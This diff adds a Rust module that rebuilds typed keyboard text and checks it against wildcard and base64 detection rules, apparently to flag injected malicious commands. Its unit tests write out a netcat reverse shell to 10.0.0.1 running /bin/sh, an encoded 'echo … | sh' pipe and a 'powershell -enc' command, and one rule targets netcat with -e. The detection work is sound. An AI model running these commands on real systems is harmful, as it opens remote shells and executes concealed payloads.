@@ -0,0 +1,236 @@
+use std::fs;
+use std::io;
+use std::path::Path;
+use super::keymap::DecodedKey;
+use crate::push_log;
+
+// Rules that are used when there is no rules file
+const DEFAULT_RULES: &str = include_str!("../../rules.conf");
+// Text typed long ago is not needed for matching
+const MAX_LINE_LENGTH: usize = 1024;
+// Runs split by '/' into parts all shorter than this are paths, not base64
+const MAX_PATH_SEGMENT_LENGTH: usize = 20;
+
+/// What the rule looks for in the typed text
+#[derive(Clone, Debug)]
+pub enum RulePattern {
+    /// Parts of the pattern split by `*`, they have to appear in this order on one line.
+    /// A pattern that does not start with `*` starts at a word boundary
+    Wildcard { parts: Vec<String>, anchored: bool },
+    /// Run of base64 characters of at least this length with mixed case and digits, paths are left out
+    Base64 { min_length: usize },
+}
+
+/// Single rule loaded from the rules file
+#[derive(Clone, Debug)]
+pub struct CommandRule {
+    pub name: String,
+    pub pattern: RulePattern,
+    /// Pattern as it was written in the file, used in logs
+    pub source: String,
+}
+
+impl CommandRule {
+    // Wildcards are matched on the lowercase line, base64 needs the case of the typed text
+    fn matches(&self, line: &str, lowercase_line: &str) -> bool {
+        match &self.pattern {
+            RulePattern::Wildcard { parts, anchored } => {
+                let mut rest = match (parts.first(), *anchored) {
+                    (Some(first), true) => match find_at_word_start(lowercase_line, first) {
+                        Some(position) => &lowercase_line[position + first.len()..],
+                        None => return false,
+                    },
+                    _ => lowercase_line,
+                };
+                for part in parts.iter().skip(usize::from(*anchored)) {
+                    match rest.find(part.as_str()) {
+                        Some(position) => rest = &rest[position + part.len()..],
+                        None => return false,
+                    }
+                }
+                true
+            }
+            RulePattern::Base64 { min_length } => base64_runs(line).any(|run| is_base64_blob(run, *min_length)),
+        }
+    }
+}
+
+// First position of the part that does not continue a word, so "nc " is not found in "rsync "
+fn find_at_word_start(line: &str, part: &str) -> Option<usize> {
+    let needs_boundary = part.starts_with(|c: char| c.is_alphanumeric());
+    line.match_indices(part).map(|(position, _)| position).find(|position| {
+        !needs_boundary || !line[..*position].ends_with(|c: char| c.is_alphanumeric() || c == '_')
+    })
+}
+
+// Runs of base64 characters, '=' is padding and ends the run
+fn base64_runs(line: &str) -> impl Iterator<Item = &str> {
+    let mut runs = Vec::new();
+    let mut start = None;
+    let mut padded = false;
+    for (i, c) in line.char_indices() {
+        let is_data = c.is_ascii_alphanumeric() || c == '+' || c == '/';
+        if is_data && padded {
+            runs.extend(start.map(|start| &line[start..i]));
+            start = None;
+            padded = false;
+        }
+        if is_data || (c == '=' && start.is_some()) {
+            start.get_or_insert(i);
+            padded |= c == '=';
+        } else {
+            runs.extend(start.map(|start| &line[start..i]));
+            start = None;
+            padded = false;
+        }
+    }
+    runs.extend(start.map(|start| &line[start..]));
+    runs.into_iter()
+}
+
+fn is_base64_blob(run: &str, min_length: usize) -> bool {
+    let data = run.trim_end_matches('=');
+    let padding = run.len() - data.len();
+    if run.len() < min_length || padding > 2 || (padding == 0 && !run.len().is_multiple_of(4)) {
+        return false;
+    }
+    // Encoded data mixes both cases and digits, words and paths rarely do
+    let mixed = data.chars().any(|c| c.is_ascii_uppercase())
+        && data.chars().any(|c| c.is_ascii_lowercase())
+        && data.chars().any(|c| c.is_ascii_digit());
+    let path_like = data.starts_with('/')
+        || (data.contains('/') && data.split('/').all(|segment| segment.len() < MAX_PATH_SEGMENT_LENGTH));
+    mixed && !path_like
+}
+
+// Parses one line of the rules file, comments and empty lines return Ok(None)
+fn parse_rule(line: &str) -> Result<Option<CommandRule>, String> {
+    let line = line.trim();
+    if line.is_empty() || line.starts_with('#') {
+        return Ok(None);
+    }
+    let (name, source) = line
+        .split_once(':')
+        .ok_or_else(|| format!("missing ':' in '{}'", line))?;
+    let (name, source) = (name.trim().to_string(), source.trim().to_string());
+    if name.is_empty() || source.is_empty() {
+        return Err(format!("empty name or pattern in '{}'", line));
+    }
+    let pattern = if let Some(length) = source.strip_prefix("@base64") {
+        let min_length = length
+            .trim()
+            .parse::<usize>()
+            .map_err(|_| format!("invalid base64 length in '{}'", line))?;
+        RulePattern::Base64 { min_length }
+    } else {
+        let parts = source
+            .to_lowercase()
+            .split('*')
+            .filter(|part| !part.is_empty())
+            .map(|part| part.to_string())
+            .collect();
+        RulePattern::Wildcard { parts, anchored: !source.starts_with('*') }
+    };
+    Ok(Some(CommandRule { name, pattern, source }))
+}
+
+/// Set of rules the typed text is checked against
+pub struct RuleEngine {
+    rules: Vec<CommandRule>,
+}
+
+impl RuleEngine {
+    pub fn parse(content: &str) -> Self {
+        let mut rules = Vec::new();
+        for (number, line) in content.lines().enumerate() {
+            match parse_rule(line) {
+                Ok(Some(rule)) => rules.push(rule),
+                Ok(None) => {}
+                Err(e) => push_log(format!("[ERROR] Rule on line {} was skipped: {}", number + 1, e)),
+            }
+        }
+        RuleEngine { rules }
+    }
+
+    /// Loads rules from the file, the built in rules are used when the file does not exist
+    pub fn load(path: &Path) -> io::Result<Self> {
+        match fs::read_to_string(path) {
+            Ok(content) => Ok(Self::parse(&content)),
+            Err(e) if e.kind() == io::ErrorKind::NotFound => Ok(Self::parse(DEFAULT_RULES)),
+            Err(e) => Err(e),
+        }
+    }
+
+    pub fn rule_count(&self) -> usize {
+        self.rules.len()
+    }
+
+    /// Returns the first rule that matches the line
+    pub fn check(&self, line: &str) -> Option<&CommandRule> {
+        let lowercase_line = line.to_lowercase();
+        self.rules.iter().find(|rule| rule.matches(line, &lowercase_line))
+    }
+}
+
+/// Rebuilds the typed text of one device from the decoded keys, so the rules could be checked on it.
+/// Chords stay in the text as tokens like <CTRL+ALT+T>
+#[derive(Default)]
+pub struct TextReconstructor {
+    line: String,
+}
+
+impl TextReconstructor {
+    pub fn new() -> Self {
+        TextReconstructor { line: String::new() }
+    }
+
+    /// Text of the current line
+    pub fn line(&self) -> &str {
+        &self.line
+    }
+
+    /// Adds the decoded key to the line, returns true when the line should be checked
+    pub fn push(&mut self, key: &DecodedKey) -> bool {
+        match key {
+            DecodedKey::Enter => {
+                self.line.clear();
+                return false;
+            }
+            DecodedKey::Backspace => {
+                self.line.pop();
+            }
+            DecodedKey::Char(c) => self.line.push(*c),
+            DecodedKey::Token(token) => self.line.push_str(token),
+        }
+        if self.line.len() > MAX_LINE_LENGTH {
+            let cut = self.line.len() - MAX_LINE_LENGTH;
+            let cut = (cut..self.line.len()).find(|i| self.line.is_char_boundary(*i)).unwrap_or(0);
+            self.line.drain(..cut);
+        }
+        true
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn base64_blob_matches_encoded_data_but_not_paths() {
+        let rules = RuleEngine::parse("base64-blob: @base64 40");
+        assert!(rules.check("echo SGVsbG8gV29ybGQsIHRoaXMgaXMgYSBwYXlsb2FkIDEyMw== | sh").is_some());
+        assert!(rules.check("powershell -enc JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0").is_some());
+        assert!(rules.check("cd /home/user/Documents/Projects2024/QuarterlyReports/Final").is_none());
+        assert!(rules.check("vim Documents/Projects2024/QuarterlyReports/FinalDraft").is_none());
+        assert!(rules.check("ThisIsAVeryLongCamelCaseIdentifierWithoutAnyDigitsAt").is_none());
+    }
+
+    #[test]
+    fn wildcard_starts_at_a_word_boundary() {
+        let rules = RuleEngine::parse("netcat-exec: nc * -e");
+        assert!(rules.check("nc 10.0.0.1 4444 -e /bin/sh").is_some());
+        assert!(rules.check("sudo NC -lvp 4444 -e /bin/bash").is_some());
+        assert!(rules.check("rsync -av src/ host:dst -e ssh").is_none());
+        assert!(rules.check("sync -e").is_none());
+    }
+}